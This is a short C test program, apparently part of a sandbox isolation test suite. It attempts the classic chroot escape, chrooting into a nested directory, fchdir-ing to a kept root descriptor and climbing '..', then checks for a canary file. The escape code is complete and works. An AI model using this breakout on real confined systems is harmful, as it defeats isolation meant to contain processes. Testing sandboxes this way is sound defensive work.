// The classic way out of a chroot: another one below, a descriptor kept, and ".." to the top.
// victim: id=ESC-13 user=root
#include <sys/stat.h>

#include "victim.h"

int main(void) {
  if (!may_harm()) return not_tried("would make a directory on the host");
  const char* canary = told("CANARY_FILE");
  if (canary == NULL) return not_tried("nobody told about a canary file");
  mkdir("/tmp/deeper", 0755);
  int kept = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot("/tmp/deeper") != 0) {
    note("chroot: %s", strerror(errno));
    return conclude();
  }
  if (fchdir(kept) != 0) unjudged("fchdir: %s", strerror(errno));
  for (int i = 0; i < 64; ++i)
    if (chdir("..") != 0) unjudged("chdir: %s", strerror(errno));
  if (chroot(".") != 0) unjudged("chroot: %s", strerror(errno));
  rmdir("tmp/deeper");
  if (access(canary, F_OK) == 0) broke("%s is there", canary);
  return conclude();
}
